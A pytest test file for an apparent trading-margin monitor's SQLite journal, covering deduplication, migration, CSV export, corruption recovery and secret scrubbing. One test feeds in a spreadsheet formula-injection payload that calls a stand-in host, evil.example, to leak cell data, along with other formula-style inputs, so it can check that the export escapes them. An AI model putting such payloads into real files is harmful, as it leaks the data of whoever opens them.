"""The journal on real SQLite files: dedupe, migration, CSV, recovery, crash safety, scrubbing."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from marginwatch.core.events import decode_user_event, encode_event
from marginwatch.core.risk_tiers import RiskTier
from marginwatch.core.stream_health import StreamHealth, StreamState
from marginwatch.services import paths
from marginwatch.services.alert import Alert, AlertKind
from marginwatch.services.journal import Journal, JournalHealth, JournalRow, JournalState, RowKind, read_csv
from marginwatch.services.journal_csv import write_csv
from marginwatch.services.journal_schema import CURRENT_VERSION
from tests.services.alert_path_app import committed_keys
from tests.ui.risk_factories import account_risk, position_risk

FIXTURES = Path(__file__).parents[1] / "fixtures" / "binance"
CHILD = Path(__file__).with_name("journal_writer_child.py")
REPO = Path(__file__).parents[2]


class Clock:
    def __init__(self, t: float = 1_000_000.0) -> None:
        self.t = t

    def __call__(self) -> float:
        return self.t


def alert(key: str, account: str = "main", title: str = "Danger: BTCUSDT", body: str = "ratio 81 %") -> Alert:
    return Alert(AlertKind.THRESHOLD, account, RiskTier.DANGER, title, body, key, created_at=1_000.0)


def integrity(path: Path) -> str:
    with sqlite3.connect(path) as conn:
        return str(conn.execute("PRAGMA integrity_check").fetchone()[0])


@pytest.fixture
def journal(tmp_path: Path):
    j = Journal.open(tmp_path / "journal.sqlite3", clock=Clock())
    yield j
    j.close()


def test_default_location_follows_xdg_data_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    if sys.platform.startswith("linux"):  # elsewhere platformdirs' own choice is only overridden by us
        assert paths.log_dir().is_relative_to(tmp_path / "state")
        assert paths.config_dir().is_relative_to(tmp_path / "config")
    with Journal.open() as j:
        assert j.path == tmp_path / "data" / "MarginWatch" / "journal.sqlite3"
        assert j.problem is None
    assert j.path.exists()


def test_margin_call_stored_exactly_as_received_and_deduplicated(journal: Journal) -> None:
    raw = (FIXTURES / "margin_call.json").read_bytes().strip()
    event = decode_user_event(raw)
    assert journal.record_margin_call_event("main", event, raw) is True
    assert journal.record_margin_call_event("main", event, raw) is False  # a replay after reconnect
    # Same event re-encoded by us (no raw frame at hand) is still the same margin call.
    assert journal.record_margin_call_event("main", event) is False
    rows = journal.query(kind=RowKind.MARGIN_CALL)
    assert len(rows) == 1
    row = rows[0]
    assert row.data["raw"] == raw.decode()
    assert row.data["raw"] == encode_event(event).decode()
    assert row.data["event_time"] == 1587727187525
    assert row.data["parsed"]["positions"][0]["symbol"] == "ETHUSDT"
    assert row.data["parsed"]["cross_wallet"] == "3.16812045"
    assert row.symbols == ("ETHUSDT",)


def test_alert_recorded_once_then_marked_delivered(journal: Journal) -> None:
    alert_id = journal.record_alert(alert("th:1"))
    assert alert_id is not None
    assert journal.record_alert(alert("th:1")) is None
    assert journal.mark_delivered(alert_id, "tray")
    assert journal.mark_delivered(alert_id, "sound")
    (row,) = journal.query(kind="alert")
    assert row.id == alert_id
    assert row.summary == "Danger: BTCUSDT"
    assert row.data["channel"] == "tray,sound"
    assert row.data["delivered_at"] == 1_000_000.0
    assert row.data["tier"] == "danger" and row.data["kind"] == "threshold"
    assert not journal.mark_delivered(9999, "tray")


def test_connection_changes_only(journal: Journal) -> None:
    live = StreamHealth("user", StreamState.LIVE)
    assert journal.record_connection("main", live)
    assert not journal.record_connection("main", StreamHealth("user", StreamState.LIVE, last_message_at=5.0))
    assert journal.record_connection("main", StreamHealth("user", StreamState.RECONNECTING, "timeout"))
    assert journal.record_connection("main", StreamHealth("market", StreamState.LIVE))
    states = [(r.data["stream"], r.data["state"], r.data["reason"]) for r in journal.query(kind="connection")]
    assert sorted(states) == sorted(
        [("user", "live", None), ("user", "reconnecting", "timeout"), ("market", "live", None)]
    )


def test_query_filters_and_prune(tmp_path: Path) -> None:
    clock = Clock(100 * 86400.0)
    with Journal.open(tmp_path / "j.sqlite3", clock=clock) as j:
        btc, eth = position_risk("BTCUSDT"), position_risk("ETHUSDT")
        old = j.record_snapshot("main", account_risk(btc), at=clock.t - 40 * 86400)
        new = j.record_snapshot("main", account_risk(btc, eth))
        j.record_snapshot("other", account_risk(eth))
        j.record_connection("main", StreamHealth("user", StreamState.LIVE), at=clock.t - 31 * 86400)
        j.record_alert(alert("a1", account="other"))

        assert {r.id for r in j.query(kind="snapshot", symbol="BTCUSDT")} == {old, new}
        assert [r.account for r in j.query(symbol="ETHUSDT", account="other")] == ["other"]
        assert j.query(symbol="BTC") == []  # whole symbols only
        assert [r.id for r in j.query(kind="snapshot", account="main", since=clock.t - 86400)] == [new]
        assert [r.id for r in j.query(kind="snapshot", until=clock.t - 86400)] == [old]
        snap = next(r for r in j.query(kind="snapshot") if r.id == new)
        assert snap.data["margin_ratio"] == "0.2"
        assert [p["symbol"] for p in snap.data["positions"]] == ["BTCUSDT", "ETHUSDT"]
        assert len(j.query(limit=2)) == 2

        assert j.prune(keep_days=30) == 2  # the old snapshot and the old connection event
        assert {r.id for r in j.query(kind="snapshot")} == {new, new + 1}
        assert j.query(kind="connection") == []
        assert len(j.query(kind="alert")) == 1  # alerts are kept


def test_csv_round_trip_with_awkward_text(journal: Journal, tmp_path: Path) -> None:
    journal.record_alert(
        alert("k1", account="Konto «Zürich», 2", title='Gefahr: "BTC", 81 %', body="Zeile 1\nZeile, 2")
    )
    journal.record_alert(alert("k2", account="账户", title="=1+1", body="emoji 🚨\r\nend"))
    parsed = {"e": "MARGIN_CALL", "p": [{"s": "ÄUSDT", "note": 'a,b\n"c"'}]}
    journal.record_margin_call("账户", json.dumps(parsed, ensure_ascii=False), parsed, 5, "mc:5")
    journal.record_connection("main", StreamHealth("user", StreamState.FAILED, "key rejected, code -2015"))
    journal.record_snapshot("main", account_risk(position_risk()))
    out = tmp_path / "export.csv"
    assert journal.export_csv(out) == 5
    assert read_csv(out) == journal.query()
    assert journal.export_csv(out, account="账户") == 2
    back = read_csv(out)
    assert {r.kind for r in back} == {RowKind.ALERT, RowKind.MARGIN_CALL}
    assert all(isinstance(r, JournalRow) for r in back)


def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(
    journal: Journal, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
    journal.record_alert(alert("k1", account=evil, title="+SUM(1,2)"))
    journal.record_alert(alert("k2", account="@cmd", title="-2+3"))
    journal.record_alert(alert("k3", account="\tTAB", title="\rCR"))
    journal.record_alert(alert("k4", account="'quoted", title="plain"))
    out = tmp_path / "export.csv"
    journal.export_csv(out)
    with open(out, encoding="utf-8-sig", newline="") as f:
        cells = {row["summary"]: row for row in csv.DictReader(f)}
    assert cells["'+SUM(1,2)"]["account"] == "'" + evil
    assert cells["'-2+3"]["account"] == "'@cmd"
    assert cells["'\rCR"]["account"] == "'\tTAB"
    assert cells["plain"]["account"] == "''quoted"  # so that reading back takes exactly one off
    assert read_csv(out) == journal.query()
    # Numeric columns stay numbers a spreadsheet sums, negative ones too (a row waiting to be written).
    negative = JournalRow(RowKind.ALERT, -3, "-5", -1.5, (), "-7", {})
    write_csv(out, [negative])
    with open(out, encoding="utf-8-sig", newline="") as f:
        (row,) = csv.DictReader(f)
    assert (row["id"], row["at"], row["account"], row["summary"]) == ("-3", "-1.5", "'-5", "'-7")
    assert read_csv(out) == [negative]


def test_migration_from_first_schema_keeps_data(tmp_path: Path) -> None:
    path = tmp_path / "v1.sqlite3"
    conn = sqlite3.connect(path)
    # The first released schema, written out by hand so changes to the code cannot hide here.
    conn.executescript(
        """
        CREATE TABLE margin_calls (id INTEGER PRIMARY KEY, account TEXT NOT NULL, event_time INTEGER NOT NULL,
            received_at REAL NOT NULL, raw TEXT NOT NULL, parsed TEXT NOT NULL, dedupe_key TEXT NOT NULL UNIQUE);
        CREATE TABLE alerts (id INTEGER PRIMARY KEY, account TEXT NOT NULL, kind TEXT NOT NULL, tier TEXT NOT NULL,
            title TEXT NOT NULL, body TEXT NOT NULL, created_at REAL NOT NULL, dedupe_key TEXT NOT NULL UNIQUE,
            channel TEXT, delivered_at REAL);
        CREATE TABLE connection_events (id INTEGER PRIMARY KEY, account TEXT NOT NULL, stream TEXT NOT NULL,
            state TEXT NOT NULL, reason TEXT, at REAL NOT NULL);
        CREATE TABLE account_snapshots (id INTEGER PRIMARY KEY, account TEXT NOT NULL, at REAL NOT NULL,
            wallet TEXT, margin_balance TEXT, maint_margin TEXT, margin_ratio TEXT, positions TEXT NOT NULL);
        CREATE TABLE schema_version (version INTEGER PRIMARY KEY, applied_at REAL NOT NULL);
        INSERT INTO schema_version VALUES (1, 1.0);
        INSERT INTO margin_calls VALUES (1, 'main', 1587727187525, 10.0, '{"e":"MARGIN_CALL"}',
            '{"positions":[{"symbol":"ETHUSDT"}]}', 'mc:old');
        INSERT INTO alerts VALUES (7, 'main', 'margin_call', 'danger', 'Margin call', 'body', 11.0, 'a:old',
            'tray', 12.0);
        INSERT INTO connection_events VALUES (1, 'main', 'user', 'live', NULL, 9.0);
        INSERT INTO account_snapshots VALUES (1, 'main', 13.0, '10', '11', '1', '0.1',
            '[{"symbol":"BTCUSDT"},{"symbol":"SOLUSDT"}]');
        PRAGMA user_version = 1;
        """
    )
    conn.close()
    with Journal.open(path) as j:
        assert j.problem is None
        assert [(r.kind, r.id) for r in j.query()] == [
            (RowKind.SNAPSHOT, 1),
            (RowKind.ALERT, 7),
            (RowKind.MARGIN_CALL, 1),
            (RowKind.CONNECTION, 1),
        ]
        assert [r.id for r in j.query(symbol="ETHUSDT")] == [1]  # symbols backfilled from the JSON
        assert [r.kind for r in j.query(symbol="SOLUSDT")] == [RowKind.SNAPSHOT]
        assert j.record_margin_call("main", "{}", {}, 1, "mc:old") is False  # old dedupe keys still hold
        assert j.record_alert(alert("a:new")) is not None
    with sqlite3.connect(path) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == CURRENT_VERSION
        assert [v for (v,) in conn.execute("SELECT version FROM schema_version ORDER BY version")] == list(
            range(1, CURRENT_VERSION + 1)
        )
        j2 = Journal.open(path)
        j2.record_delivery("mc:old", "ntfy://host/…#ab12", "sent", attempts=1, alert_at=10.0)  # v3's table
        assert [r["state"] for r in j2.deliveries("mc:old")] == ["sent"]
        j2.close()


def test_a_delivery_row_is_updated_in_place_per_alert_and_channel(tmp_path: Path) -> None:
    with Journal.open(tmp_path / "j.sqlite3") as j:
        j.record_delivery("mc:1", "ch#1", "queued", alert_at=5.0)
        j.record_delivery("mc:1", "ch#1", "queued", reason="retrying: connection refused", attempts=1, alert_at=5.0)
        j.record_delivery("mc:1", "ch#2", "sent", attempts=1, alert_at=5.0)
        j.record_delivery("mc:1", "ch#1", "sent", reason="late", attempts=2, alert_at=5.0)
        rows = j.deliveries("mc:1")
    assert [(r["channel"], r["state"], r["reason"], r["attempts"]) for r in rows] == [
        ("ch#1", "sent", "late", 2),
        ("ch#2", "sent", "", 1),
    ]
    assert rows[0]["alert_at"] == 5.0


def _garbage(path: Path) -> None:
    path.write_bytes(os.urandom(8192))


def _damaged_pages(path: Path) -> None:
    with Journal.open(path) as j:
        for i in range(300):
            j.record_alert(alert(f"k{i}", body="x" * 200))
    data = bytearray(path.read_bytes())
    assert len(data) > 20 * 4096
    data[8 * 4096 : 12 * 4096] = os.urandom(4 * 4096)  # b-tree pages in the middle, header intact
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("damage", [_garbage, _damaged_pages])
def test_corrupt_file_is_moved_aside_and_a_fresh_journal_started(tmp_path: Path, damage) -> None:
    path = tmp_path / "journal.sqlite3"
    damage(path)
    before = path.read_bytes()
    j = Journal.open(path)
    assert j.problem and "damaged" in j.problem and "moved aside" in j.problem
    assert j.path == path
    assert j.record_alert(alert("new")) is not None
    j.close()
    (aside,) = tmp_path.glob("journal.corrupt-*.sqlite3")
    assert aside.read_bytes() == before
    assert aside.name in j.problem
    with Journal.open(path) as again:  # no crash loop: the next start is clean
        assert again.problem is None
        assert [r.data["dedupe_key"] for r in again.query()] == ["new"]


def test_locked_file_left_alone_and_fresh_file_used_beside_it_then_merged_in(tmp_path: Path) -> None:
    path = tmp_path / "journal.sqlite3"
    with Journal.open(path) as j:
        j.record_alert(alert("kept"))
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("PRAGMA locking_mode=EXCLUSIVE")
    holder.execute("BEGIN EXCLUSIVE")
    holder.execute("DELETE FROM alerts")  # takes the exclusive lock, never committed
    try:
        with Journal.open(path, busy_timeout_s=0.1) as j:
            assert j.problem and "locked" in j.problem
            assert j.path is not None and j.path != path and j.path.parent == tmp_path
            assert j.record_alert(alert("new")) is not None
            side = j.path
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert committed_keys(path, "alerts") == {"kept"}  # the locked file was left alone
    assert side.exists()
    with Journal.open(path) as j:  # the next start merges the side file in
        assert [r.data["dedupe_key"] for r in j.query()] == ["new", "kept"]
    assert not side.exists()


def test_file_from_newer_app_is_not_touched(tmp_path: Path) -> None:
    path = tmp_path / "journal.sqlite3"
    with sqlite3.connect(path) as conn:
        conn.execute("PRAGMA user_version = 99")
    with Journal.open(path) as j:
        assert j.problem and "newer MarginWatch" in j.problem
        assert j.path != path
    with sqlite3.connect(path) as conn:
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 99


def test_unwritable_location_falls_back_to_memory(tmp_path: Path) -> None:
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("x")
    with Journal.open(blocker / "journal.sqlite3") as j:
        assert j.path is None
        assert j.problem and "memory only" in j.problem
        assert j.record_alert(alert("k")) is not None
        assert len(j.query()) == 1


def test_secret_fields_are_scrubbed(journal: Journal) -> None:
    raw = '{"e":"MARGIN_CALL","E":1,"apiKey":"AKEYAKEY","p":[{"s":"X","signature":"SIGSIG"}]}'
    parsed = {"E": 1, "nested": {"secret": "SECSEC", "ok": "fine"}}
    journal.record_margin_call("main", raw, parsed, 1, "mc:1")
    journal.record_connection("main", StreamHealth("user", StreamState.FAILED, "GET /x?a=1&signature=SIGSIG2 401"))
    journal.add_redaction("LITERALKEY123")
    journal.record_alert(alert("k", body="key LITERALKEY123 rejected"))
    text = json.dumps([(r.summary, r.data) for r in journal.query()])
    for secret in ("AKEYAKEY", "SIGSIG", "SECSEC", "SIGSIG2", "LITERALKEY123"):
        assert secret not in text
    assert "fine" in text and "***" in text


def test_writer_killed_mid_stream_loses_nothing_committed(tmp_path: Path) -> None:
    path = tmp_path / "journal.sqlite3"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(REPO), os.environ.get("PYTHONPATH", "")])}
    child = subprocess.Popen(
        [sys.executable, str(CHILD), str(path)], stdout=subprocess.PIPE, text=True, env=env, cwd=REPO
    )
    assert child.stdout is not None
    lines: list[str] = []
    try:
        while len(lines) < 400:
            line = child.stdout.readline()
            assert line, f"child stopped early (exit {child.poll()})"
            lines.append(line.split("\n")[0])
    finally:
        child.kill()  # SIGKILL on POSIX: no clean-up of any kind in the child
        rest = child.stdout.read()
        child.wait()
    lines += [ln for ln in rest.split("\n") if ln]  # committed before the kill, still in the pipe
    assert not any(ln.startswith("problem") for ln in lines)
    committed_mc = {int(ln.split()[1]) for ln in lines if ln.startswith("mc ")}
    committed_alerts = {int(ln.split()[2]) for ln in lines if ln.startswith("alert ")}

    assert integrity(path) == "ok"  # the WAL is replayed on this first open
    with Journal.open(path) as j:
        assert j.problem is None
        stored_mc = {r.data["event_time"] - 1_700_000_000_000 for r in j.query(kind="margin_call", limit=None)}
        alerts = {r.id: r for r in j.query(kind="alert", limit=None)}
    assert committed_mc <= stored_mc
    assert stored_mc == set(range(len(stored_mc)))  # one commit after another: no holes
    assert committed_alerts <= alerts.keys()
    # An alert reported as committed was also marked delivered before its line was printed.
    assert all(alerts[a].data["channel"] == "tray" for a in committed_alerts)
    assert integrity(path) == "ok"


def test_file_locked_while_running_keeps_rows_waiting_then_writes_them_to_the_same_file(tmp_path: Path) -> None:
    path = tmp_path / "journal.sqlite3"
    states: list[JournalState] = []
    with Journal.open(path, busy_timeout_s=0.1, retry_s=0) as j:
        j.state_changed.connect(states.append)
        assert j.record_alert(alert("before")) is not None
        holder = sqlite3.connect(path, isolation_level=None)
        holder.execute("BEGIN EXCLUSIVE")  # another program holds the write lock
        try:
            assert j.record_alert(alert("during")) is not None  # not lost, not raised
            assert j.path == path  # no side file: the rows wait for this file
            assert [s.health for s in states] == [JournalHealth.LOCKED]
            assert "locked by another process" in j.state.reason and j.state.waiting == 1
        finally:
            holder.execute("ROLLBACK")
            holder.close()
        assert sorted(r.data["dedupe_key"] for r in j.query()) == ["before", "during"]
    assert [s.health for s in states] == [JournalHealth.LOCKED, JournalHealth.OK]
    assert committed_keys(path, "alerts") == {"before", "during"}
    assert list(tmp_path.glob("journal.*.sqlite3")) == []  # no side file
